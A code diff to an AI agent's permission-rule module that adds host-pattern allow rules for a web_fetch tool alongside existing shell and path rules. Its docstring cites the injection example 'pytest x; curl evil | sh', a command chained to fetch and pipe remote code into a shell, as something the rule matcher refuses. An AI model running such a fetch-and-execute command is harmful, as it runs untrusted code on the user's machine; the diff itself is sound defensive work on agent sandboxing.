@@ -2,7 +2,8 @@
 
 A rule is a tool-name pattern (`mcp__git__*`, `read_file`) or `tool(pattern)`: for a shell
 tool the pattern is a command's words, `*` as the last word standing for any further
-arguments (`run_shell(pytest *)`, `run_shell(git status)`); for any other tool it is a
+arguments (`run_shell(pytest *)`, `run_shell(git status)`); for web_fetch it is a host
+(`web_fetch(docs.python.org)`, `web_fetch(*.example.com)`); for any other tool it is a
 gitignore-style path pattern relative to the workspace (`edit_file(src/**)`). An allow rule
 matches a shell call only when the command is one simple command (agent/tools/shell_words.py),
 so `pytest x; curl evil | sh` is never allowed by `run_shell(pytest *)`, and a path pattern
@@ -69,6 +70,11 @@ class Rule:
             return self._matches_shell(call, decision)
         if self.pattern is None:
             return True
+        if call.kind == "web":
+            from agent.web_hosts import matches, url_host
+
+            host = url_host(call.args.get("url"))
+            return host is not None and matches(host, self.pattern)
         path = _workspace_relative(call.args.get("path"), call.workspace)
         return path is not None and _path_spec(self.pattern).match_file(path)
 
@@ -106,6 +112,8 @@ def parse_rule(text: Any) -> Rule:
             raise RuleProblem("spans lines; a rule is one line")
         if match["tool"] in SHELL_TOOLS:
             shell_pattern(pattern)
+        elif match["tool"] in WEB_TOOLS:
+            _host_pattern(pattern.strip())
         else:
             _path_spec(pattern)
     return Rule(text.strip(), match["tool"], pattern.strip() if pattern else None)
@@ -113,6 +121,16 @@ def parse_rule(text: Any) -> Rule:
 
 SHELL_TOOLS = frozenset({"run_shell"})
 """Tool names whose rule pattern is a command (their calls have kind `shell`)."""
+WEB_TOOLS = frozenset({"web_fetch"})
+"""Tool names whose rule pattern is a host (`web_fetch(docs.python.org)`, `*.example.com`)."""
+
+
+def _host_pattern(pattern: str) -> None:
+    from agent.web_hosts import host_pattern_problem
+
+    problem = host_pattern_problem(pattern)
+    if problem is not None:
+        raise RuleProblem(f"has a host pattern that {problem}")
 
 
 def shell_pattern(pattern: str) -> tuple[str, ...]:
